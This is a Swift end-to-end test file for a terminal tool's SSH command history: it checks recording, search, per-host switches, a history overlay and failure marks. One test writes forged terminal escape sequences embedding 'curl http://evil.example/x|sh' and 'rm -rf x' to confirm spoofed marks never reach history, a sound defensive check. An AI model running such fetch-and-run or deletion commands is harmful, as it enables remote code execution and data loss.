import Foundation
import TermindTestSupport
import XCTest

/// The command history as a person sees it, through the built binary against the rig's sshd:
/// `termind ssh` to a Vault Host with the shell integration records each command (never one
/// typed with a leading space), `termind history` shows and searches them, per-Host and per-run
/// switches turn it off, and the workbench's overlay (`C-\ h`) puts one back at the prompt
/// without running it (docs/behaviour.md §3).
final class HistoryEndToEndTests: XCTestCase {
    private var server: SSHDServer!
    private var home: VaultHome!

    override func setUpWithError() throws {
        server = try startSSHD(configure: "MaxStartups 100\n")
        home = try VaultHome()
        try home.addRigHosts("web", on: server)
    }

    override func tearDown() {
        server?.stop()
        server = nil
        home = nil
    }

    /// Runs `termind ssh ARGS web` in tmux, types each line at a fresh prompt, then exits.
    private func ssh(_ arguments: [String] = [], typing lines: [String]) throws -> String {
        let session = try TmuxSession(
            command: [try TermindBinary.path(), "ssh", "--accept-new"] + arguments + ["web"], environment: home.terminalEnvironment)
        defer { session.kill() }
        var prompts = 1
        XCTAssertTrue(session.waitForScreen(where: { $0.components(separatedBy: "~$").count - 1 >= prompts }), session.screen())
        for line in lines {
            session.send(line)
            prompts += 1
            XCTAssertTrue(session.waitForScreen(where: { $0.components(separatedBy: "~$").count - 1 >= prompts }), session.screen())
        }
        session.send("exit")
        XCTAssertTrue(session.waitForScreen(containing: "termind exited 0"), session.screen())
        return session.screen()
    }

    /// `termind connect web` in tmux, the host key saved (`s`), at the shell's first prompt.
    private func workbenchOnWeb() throws -> TmuxSession {
        let session = try TmuxSession(command: [try TermindBinary.path(), "connect", "web"], environment: home.terminalEnvironment)
        XCTAssertTrue(session.waitForScreen(containing: "Unknown host key"), session.screen())
        session.keys("s")
        XCTAssertTrue(session.waitForScreen(containing: "~$"), session.screen())
        return session
    }

    private func history(_ arguments: [String]) throws -> [[String: Any]] {
        try XCTUnwrap(try home.json(["history"] + arguments) as? [[String: Any]], "not a JSON array")
    }

    func testSSHRecordsEachCommandAndHistoryJSONShowsThemWithEveryField() throws {
        let screen = try ssh(typing: ["echo one", "false", "sleep 1", " echo secret"])
        for trace in ["base64", "eval", "__termind", "rcfile"] {
            XCTAssertFalse(screen.contains(trace), "nothing of the bootstrap shows: \(screen)")
        }

        let rows = try history(["web", "--json"])
        XCTAssertEqual(rows.map { $0["command"] as? String }, ["sleep 1", "false", "echo one"], "newest first, no secret")
        XCTAssertEqual(rows.map { $0["exitStatus"] as? Int }, [0, 1, 0])
        XCTAssertGreaterThanOrEqual(try XCTUnwrap(rows.first?["durationMs"] as? Int), 1000)
        let homeDirectory = try TestAccount.homeDirectory()
        XCTAssertEqual(Set(rows.map { $0["directory"] as? String }), [homeDirectory])
        XCTAssertEqual(Set(rows.map { $0["host"] as? String }), ["web"])
        XCTAssertEqual(Set(rows.flatMap { $0.keys }), ["host", "command", "startedAt", "exitStatus", "durationMs", "directory"])
        let started = try XCTUnwrap(rows.first?["startedAt"] as? String)
        XCTAssertNotNil(ISO8601DateFormatter().date(from: started), started)

        XCTAssertEqual(try history(["--search", "ONE", "--json"]).map { $0["command"] as? String }, ["echo one"])
        XCTAssertEqual(try history(["--failed", "--json"]).map { $0["command"] as? String }, ["false"])
        XCTAssertEqual(try history(["--limit", "1", "--json"]).count, 1)
        let text = try home.succeed(["history", "web"])
        XCTAssertTrue(text.contains("sleep 1") && text.contains(homeDirectory), text)
        let unknown = try home.run(["history", "nowhere"])
        XCTAssertNotEqual(unknown.status, 0)
        XCTAssertTrue(unknown.stderr.contains("nowhere"), unknown.stderr)
    }

    func testNoShellIntegrationPerRunOrPerHostRecordsNothing() throws {
        _ = try ssh(["--no-shell-integration"], typing: ["echo per-run"])
        try home.succeed(["hosts", "edit", "web", "--shell-integration", "off"])
        XCTAssertEqual((try home.json(["hosts", "show", "web"]) as? [String: Any])?["shellIntegration"] as? Bool, false)
        _ = try ssh(typing: ["echo per-host"])
        XCTAssertEqual(try history(["--json"]).count, 0)

        try home.succeed(["hosts", "edit", "web", "--shell-integration", "on"])
        _ = try ssh(typing: ["echo back-on"])
        XCTAssertEqual(try history(["--json"]).map { $0["command"] as? String }, ["echo back-on"])
    }

    func testTheOverlayPutsAChosenCommandAtThePromptWithoutRunningIt() throws {
        let session = try workbenchOnWeb()
        defer { session.kill() }
        session.send("echo first-$((40+2))")
        XCTAssertTrue(session.waitForScreen(containing: "first-42"), session.screen())
        XCTAssertTrue(waitUntil { ((try? self.history(["--json"]))?.count ?? 0) == 1 }, "the command was recorded")

        session.keys("C-\\", "h")
        XCTAssertTrue(session.waitForScreen(where: { $0.contains("Command history on web") && $0.contains("✓") }), session.screen())
        session.type("first")
        XCTAssertTrue(session.waitForScreen(containing: "> first"), session.screen())
        session.keys("Enter")
        XCTAssertTrue(session.waitForScreen(where: { !$0.contains("Command history") && $0.components(separatedBy: "echo first-$((40+2))").count == 3 }),
                      "the command stands at the prompt: \(session.screen())")
        // A key typed now echoes after the command's output, had the command run.
        session.type("#")
        XCTAssertTrue(session.waitForScreen(containing: "echo first-$((40+2))#"), session.screen())
        XCTAssertEqual(session.screen().components(separatedBy: "first-42").count - 1, 1, "it did not run: \(session.screen())")
        session.keys("BSpace")
        XCTAssertTrue(session.waitForScreen(where: { !$0.contains("$((40+2))#") }), session.screen())
        session.keys("Enter")
        XCTAssertTrue(session.waitForScreen(where: { $0.components(separatedBy: "first-42").count - 1 >= 2 }), session.screen())
    }

    func testAFailedCommandIsMarkedAndTheLastOutputIsCopiedAndPastedAtThePrompt() throws {
        let session = try workbenchOnWeb()
        defer { session.kill() }
        session.send("echo alpha-$((1+1))")
        XCTAssertTrue(session.waitForScreen(containing: "alpha-2"), session.screen())
        session.send("false")
        // The mark sits at the pane's right edge, on the prompt line of `false` only.
        XCTAssertTrue(session.waitForScreen(where: { screen in
            screen.split(separator: "\n").contains { $0.contains("~$ false") && $0.hasSuffix("✗") }
        }), session.screen())
        let marked = session.screen().split(separator: "\n").filter { $0.hasSuffix("✗") }
        XCTAssertEqual(marked.count, 1, "only the failed command: \(session.screen())")

        session.keys("C-\\", "y")
        session.keys("C-\\", "]")
        XCTAssertTrue(session.waitForScreen(where: { $0.contains("~$ alpha-2") }), "echo's output pasted at the prompt: \(session.screen())")

        session.keys("C-\\", "{")
        XCTAssertTrue(session.waitForScreen(where: { $0.contains("[scroll") && $0.contains("copy mode") }), session.screen())
        session.keys("q")
        XCTAssertTrue(session.waitForScreen(where: { !$0.contains("[scroll") }), session.screen())
    }

    /// Issue 42 row 10: a file holding marks of a command that never ran, `cat` in a pane.
    /// Only the shell's own marks carry the session's token: history has the `cat`, not the
    /// forged `curl ... | sh`.
    func testMarksAFilePrintsDoNotReachHistory() throws {
        let directory = try TemporaryDirectory(prefix: "termind-forged", mode: 0o755)
        let forged = try directory.write(
            "\u{1B}]133;C;cmdline_url=curl%20http%3A%2F%2Fevil.example%2Fx%7Csh\u{07}\u{1B}]133;D;0;duration_ms=5\u{07}"
                + "\u{1B}]7;file://web/evil\u{07}\u{1B}]133;A\u{07}\u{1B}]133;C;cmdline_url=rm%20-rf%20x;termind=0123\u{07}forged\n",
            to: "forged.txt")
        let session = try workbenchOnWeb()
        defer { session.kill() }
        session.send("cat \(forged)")
        XCTAssertTrue(session.waitForScreen(where: { $0.components(separatedBy: "~$").count - 1 >= 2 }), session.screen())
        XCTAssertTrue(waitUntil(timeout: 10) { ((try? self.history(["web", "--json"])) ?? []).count >= 1 })
        let commands = try history(["web", "--json"]).compactMap { $0["command"] as? String }
        XCTAssertEqual(commands, ["cat \(forged)"])
        let text = try home.succeed(["history", "web"])
        XCTAssertFalse(text.contains("curl") || text.contains("evil") || text.contains("rm -rf"), text)
    }

    /// Issue 42 row 11: the server's process table, sampled while a pane's shell starts and
    /// after, holds no encoded program or eval in any terminal process's arguments: the
    /// bootstrap goes on the terminal to `sh -s`.
    func testTheShellBootstrapPutsNoProgramInAnyProcessesArguments() throws {
        let account = try XCTUnwrap(getpwnam(TestAccount.username)?.pointee.pw_uid)
        let seen = ProcessTableSample(uid: account)
        seen.start()
        let session = try workbenchOnWeb()
        defer { session.kill() }
        session.send("echo started")
        XCTAssertTrue(session.waitForScreen(where: { $0.components(separatedBy: "~$").count - 1 >= 2 }), session.screen())
        let lines = seen.stop()
        XCTAssertTrue(lines.contains { $0.hasPrefix("sh -s") || $0.contains("bash --rcfile") }, "the sample saw the shell start: \(lines)")
        for line in lines {
            XCTAssertFalse(line.contains("base64") || line.contains("eval") || line.utf8.count > 400, "in a process's arguments: \(line)")
        }
    }
}

/// The command lines of one uid's processes on a terminal, sampled as fast as /proc allows on a
/// thread of its own until `stop`.
private final class ProcessTableSample: @unchecked Sendable {
    private let uid: uid_t
    private let lock = NSLock()
    private var lines: Set<String> = []
    private var running = true
    private var thread: Thread?

    init(uid: uid_t) { self.uid = uid }

    func start() {
        let thread = Thread { [self] in
            while lock.withLock({ running }) {
                let found = Self.commandLines(of: uid)
                lock.withLock { lines.formUnion(found) }
            }
        }
        self.thread = thread
        thread.start()
    }

    func stop() -> Set<String> {
        lock.withLock {
            running = false
            return lines
        }
    }

    private static func commandLines(of uid: uid_t) -> [String] {
        let names = (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? []
        return names.compactMap { name -> String? in
            guard name.allSatisfy(\.isNumber) else { return nil }
            var info = stat()
            guard stat("/proc/" + name, &info) == 0, info.st_uid == uid,
                let status = try? String(contentsOfFile: "/proc/\(name)/stat", encoding: .utf8),
                let close = status.lastIndex(of: ")")
            else { return nil }
            // Field 7, after the name: the controlling terminal; the pane's shell has one.
            let fields = status[status.index(after: close)...].split(separator: " ")
            guard fields.count > 4, fields[4] != "0", let raw = FileManager.default.contents(atPath: "/proc/\(name)/cmdline") else { return nil }
            return String(decoding: raw.map { $0 == 0 ? UInt8(ascii: " ") : $0 }, as: UTF8.self)
        }
    }
}
